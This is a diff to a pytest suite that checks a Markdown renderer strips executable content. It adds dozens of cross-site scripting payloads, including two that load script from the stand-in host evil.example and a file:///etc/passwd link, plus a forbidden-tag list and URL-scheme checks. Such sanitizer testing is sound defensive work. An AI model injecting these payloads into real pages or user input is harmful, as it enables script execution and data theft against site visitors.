@@ -20,6 +20,62 @@ VECTORS = [
     "![x](javascript:alert(1))",
     "<details open ontoggle=alert(1)>",
     "[a](vbscript:msgbox(1))",
+    # Raw HTML in every form a browser accepts
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script>alert(1)",
+    "<<script>alert(1)//<</script>",
+    '<IMG SRC="javascript:alert(1);">',
+    "<IMG SRC=JaVaScRiPt:alert(1)>",
+    "<IMG SRC=`javascript:alert(1)`>",
+    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
+    '<IMG SRC="jav\tascript:alert(1);">',
+    '<IMG SRC=" &#14;  javascript:alert(1);">',
+    "<BODY ONLOAD=alert(1)>",
+    '<BODY BACKGROUND="javascript:alert(1)">',
+    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
+    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</UL>',
+    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
+    '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
+    '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
+    '<TABLE BACKGROUND="javascript:alert(1)"><TD>x</TD></TABLE>',
+    '<DIV STYLE="width: expression(alert(1));">x</DIV>',
+    '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/x.html"></OBJECT>',
+    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<a href="javas&#x09;cript:alert(1)">x</a>',
+    '<form action="javascript:alert(1)"><button>x</button></form>',
+    '<video><source onerror="alert(1)"></video>',
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    '<base href="javascript:alert(1)//">',
+    '<a href="#" onclick="alert(1)">x</a>',
+    "<p onmouseover=alert(1)>x</p>",
+    '<!--<img src="--><img src=x onerror=alert(1)//">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<template><script>alert(1)</script></template>",
+    # Markdown's own links and images
+    "[x](javascript&#58;alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x]( javascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](java\nscript:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](VBScript:msgbox(1))",
+    "[x](file:///etc/passwd)",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    '![x](https://example.org/a.png "onerror=alert(1)")',
+    "[x][ref]\n\n[ref]: javascript:alert(1)",
+    '[x](https://example.org" onclick="alert(1))',
+    "<javascript:alert(1)>",
+    '<https://example.org/" onmouseover="alert(1)>',
+    "```html\n<script>alert(1)</script>\n```",
+    "`<img src=x onerror=alert(1)>`",
+    "> <script>alert(1)</script>",
+    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
 ]
 
 
@@ -34,17 +90,30 @@ class Elements(HTMLParser):
         self.found.append((tag, attrs))
 
 
+FORBIDDEN_TAGS = {
+    "script", "style", "iframe", "frame", "frameset", "object", "embed", "svg", "math", "img",
+    "details", "form", "input", "button", "link", "meta", "base", "video", "audio", "source",
+    "template", "noscript", "marquee", "body",
+}  # fmt: skip
+
+
+def test_there_are_more_than_fifty_vectors() -> None:
+    assert len(set(VECTORS)) >= 50
+
+
 @pytest.mark.parametrize("source", VECTORS)
 def test_no_executable_content(source: str) -> None:
     parser = Elements()
     parser.feed(render_markdown(source))
     for tag, attrs in parser.found:
-        assert tag not in {"script", "iframe", "svg", "object", "embed", "style", "img", "details"}
+        assert tag not in FORBIDDEN_TAGS, tag
         for name, value in attrs:
             assert not name.startswith("on"), (tag, name)
-            assert name != "style"
+            assert name not in {"style", "formaction", "action", "background", "srcdoc"}
             if name in {"href", "src"}:
-                assert re.match(r"^(https?:|mailto:|#|/)", (value or "").strip(), re.I), value
+                url = re.sub(r"[\x00-\x20]", "", value or "").lower()
+                assert not url.startswith(("javascript:", "vbscript:", "data:")), value
+                assert re.match(r"^(https?:|mailto:|#|/)", url), value
 
 
 def test_markdown_is_rendered() -> None:
